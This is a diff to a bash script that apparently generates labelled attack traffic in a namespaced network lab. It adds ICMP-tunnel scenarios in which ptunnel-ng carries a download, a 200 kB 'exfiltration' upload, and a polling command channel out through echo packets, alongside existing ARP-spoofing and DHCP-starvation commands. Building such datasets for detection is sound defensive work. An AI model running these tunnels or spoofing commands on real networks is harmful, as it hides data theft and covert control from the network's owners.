@@ -139,6 +139,10 @@ def arp_spoofing/gateway-claim attack arp_spoofing 42
 def arp_spoofing/mitm-bidirectional attack arp_spoofing 42
 def arp_spoofing/slow-claims attack arp_spoofing 113
 def arp_spoofing/arping-gratuitous attack arp_spoofing 41
+def icmp_tunnel/ptunnel-ng-download attack icmp_tunnel 10
+def icmp_tunnel/ptunnel-ng-upload attack icmp_tunnel 10
+def icmp_tunnel/ptunnel-ng-polling attack icmp_tunnel 90
+def icmp_tunnel/ptunnel-ng-rate-limited attack icmp_tunnel 35
 def dhcp_flood/dhcpstarv attack dhcp_flood 45
 def dhcp_flood/dhcpstarv-no-ping attack dhcp_flood 20
 def dhcp_flood/yersinia-forged-macs attack dhcp_flood 8
@@ -222,7 +226,7 @@ fi
 
 # ---------------------------------------------------------------- setup
 lab_install_missing "$INSTALL" vsftpd:vsftpd memcached:memcached ab:apache2-utils nft:nftables \
-	ethtool:ethtool nc:netcat-openbsd capinfos:tshark dhcpstarv:dhcpstarv yersinia:yersinia udhcpc:udhcpc
+	ethtool:ethtool nc:netcat-openbsd capinfos:tshark dhcpstarv:dhcpstarv yersinia:yersinia udhcpc:udhcpc ptunnel-ng:ptunnel-ng
 for c in ip tcpdump timeout curl "$PY" nft; do have "$c" || die "$c is required and not installed"; done
 
 mkdir -p "$OUTDIR"
@@ -885,6 +889,44 @@ v_arp_spoofing_arping_gratuitous() {
 	lan_attack "$ATTACKER" "$ROUTER" "arping -U -P: an unsolicited ARP reply every second for 40 s, broadcast, saying the router's address is at the attacker's MAC"
 	run_in 70 "$NS_ATTACKER" arping -q -i eth0 -U -P -S "$ROUTER" -c 40 -W 1 "$ROUTER"
 	neigh_flush
+}
+
+# ---------------------------------------------------------------- icmp_tunnel
+# ptunnel-ng carries TCP inside ICMP echo: its client on client3 pings the
+# outside host, whose proxy forwards to a web service there (tunnel_web.py
+# on 127.0.0.1:8000) and answers with echo replies carrying the data. The
+# outside host's kernel answers the pings too, as a host does.
+PT_SRC_HOST=107 # client3
+ptunnel() { # ptunnel SECS CLIENT_CMD...: the tunnel up for CLIENT_CMD, run through localhost:2222 on client3
+	local secs=$1
+	shift
+	ATTACKERS=$LAN4.$PT_SRC_HOST MACS=$(mac_of_addr $PT_SRC_HOST) TARGETS=$WAN_HOST SEL="icmp and host $WAN_HOST"
+	bg_in $((secs + 20)) "$NS_WAN" "$PY" "$LABTOOLS/tunnel_web.py" 127.0.0.1 8000
+	bg_in $((secs + 20)) "$NS_WAN" ptunnel-ng -r127.0.0.1 -R8000 -v 0
+	bg_in $((secs + 20)) "${NS_CLIENTS[2]}" ptunnel-ng -p"$WAN_HOST" -l2222 -r127.0.0.1 -R8000 -v 0
+	note "ptunnel-ng -r127.0.0.1 -R8000 (outside); ptunnel-ng -p$WAN_HOST -l2222 -r127.0.0.1 -R8000 (client3)"
+	sleep 1
+	run_in "$secs" "${NS_CLIENTS[2]}" "$@"
+	kill "${ATK_PIDS[@]}" 2>/dev/null || true # timeout passes it on
+	wait_all
+}
+v_icmp_tunnel_ptunnel_ng_download() {
+	DESC="ptunnel-ng: a LAN client downloads 300 kB from an outside web service through an ICMP tunnel; the data comes back in echo replies of up to 1 kB, as fast as the tunnel's window allows"
+	ptunnel 15 curl -s -o /dev/null --max-time 14 http://127.0.0.1:2222/bytes/300000
+}
+v_icmp_tunnel_ptunnel_ng_upload() {
+	DESC="ptunnel-ng: a LAN client uploads 200 kB to an outside web service through an ICMP tunnel (exfiltration): the data goes out in echo requests, the replies carry the tunnel's acknowledgements"
+	head -c 200000 /dev/urandom >"$RUN/exfil.bin"
+	ptunnel 15 curl -s -o /dev/null --max-time 14 -X POST --data-binary "@$RUN/exfil.bin" http://127.0.0.1:2222/upload
+}
+v_icmp_tunnel_ptunnel_ng_polling() {
+	DESC="ptunnel-ng as a command channel: a LAN client asks an outside web service for a few hundred bytes every 2 s for 90 s through an ICMP tunnel"
+	# shellcheck disable=SC2016 # expanded by the inner bash
+	ptunnel 95 bash -c 'for i in $(seq 45); do curl -s -o /dev/null --max-time 3 http://127.0.0.1:2222/bytes/$((200 + RANDOM % 400)); sleep 2; done'
+}
+v_icmp_tunnel_ptunnel_ng_rate_limited() {
+	DESC="ptunnel-ng: a slow download through an ICMP tunnel, the outside service sending 12 kB a second for 35 s (about a dozen echo replies a second)"
+	ptunnel 40 curl -s -o /dev/null --max-time 38 http://127.0.0.1:2222/bytes/420000/12000
 }
 
 # ---------------------------------------------------------------- dhcp_flood
